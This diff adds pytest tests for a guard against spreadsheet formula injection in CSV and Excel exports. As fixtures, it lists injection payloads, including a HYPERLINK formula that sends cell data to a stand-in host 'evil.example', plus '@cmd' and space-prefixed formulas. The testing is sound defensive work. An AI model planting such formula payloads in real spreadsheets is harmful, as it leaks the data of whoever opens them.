@@ -7,6 +7,7 @@ from __future__ import annotations
 
 from pathlib import Path
 
+import pandas as pd
 import pytest
 import yaml
 
@@ -161,3 +162,88 @@ def test_large_files_without_multi_line_cells_take_the_counting_path_only(tmp_pa
     monkeypatch.setattr(loaders, "line_stats", fail)
     raw = read_file(_write(tmp_path / "a.csv", accounts_csv(2000)))
     assert len(raw.frame) == 2000 and raw.rows[-1] == 2001
+
+
+# --------------------------------------------------------------------------- formula guard
+
+DANGEROUS = [
+    '=HYPERLINK("http://evil.example/?x="&A2,"click")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "  =1+1",
+    " @cmd",
+]
+
+
+@pytest.mark.parametrize("text", DANGEROUS)
+def test_the_formula_guard_covers_every_owasp_prefix_also_after_spaces(text):
+    from icp_helpers.formulas import is_formula, safe_cell
+
+    assert is_formula(text)
+    assert safe_cell(text) == "'" + text
+    assert not is_formula(safe_cell(text))
+
+
+def test_quarantine_files_guard_headers_and_cells(tmp_path):
+    from icp_helpers.formulas import is_formula
+    from icp_helpers.loaders import write_quarantine
+
+    header = "account_id,name,industry,employees,country,=1+1\n"
+    rows = "".join(
+        f"A{i},{text},retail,bad,Italy,{text}\n" for i, text in enumerate(DANGEROUS[1:5])
+    )
+    rows += "A9,Fine,retail,12,Italy,ok\n"
+    config = write_project(
+        tmp_path, {"accounts.csv": header + rows}, {"accounts": {"path": "accounts.csv"}}
+    )
+    project = load_project(config)
+    assert project.tables["accounts"].summary["rows_quarantined"] == 4
+    written = write_quarantine(project, tmp_path / "run")
+    text = (tmp_path / "run" / "quarantine" / "accounts.csv").read_text(encoding="utf-8")
+    import csv as csv_module
+
+    records = list(csv_module.reader(text.splitlines()))
+    cells = [c for record in records for c in record]
+    assert "'=1+1" in records[0]
+    assert not any(is_formula(c) for c in cells)
+    assert any(c == "'+1+1" for c in cells)
+    assert written
+
+
+def test_commonalities_workbook_shows_formula_like_traits_as_text(tmp_path):
+    from openpyxl import load_workbook
+
+    from icp_helpers.commonalities import write_traits_document
+
+    table = pd.DataFrame(
+        {
+            "trait": ['=HYPERLINK("http://evil.example","x")=yes', "@cmd=1"],
+            "kind": ["categorical", "categorical"],
+            "best": [0.5, 0.2],
+            "rest": [0.1, 0.2],
+        }
+    )
+    path = write_traits_document(table, tmp_path / "commonalities.xlsx", notes=[("=note", "-2+3")])
+    book = load_workbook(path)
+    values = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in cells)
+    assert '\'=HYPERLINK("http://evil.example","x")=yes' in values
+    assert "'=note" in values and "'-2+3" in values
+
+
+def test_scored_exports_guard_headers_after_leading_spaces(tmp_path):
+    from openpyxl import load_workbook
+
+    from icp_helpers.export import write_scored
+
+    frame = pd.DataFrame({"account_id": ["A1"], "  =1+1": [" =2+2"], "amount": [-5.0]})
+    written = write_scored(frame, tmp_path, "scored_accounts")
+    text = written["csv"].read_text(encoding="utf-8-sig")
+    assert "'  =1+1" in text and "' =2+2" in text and "-5" in text
+    cells = [c for row in load_workbook(written["xlsx"]).active.iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in cells)
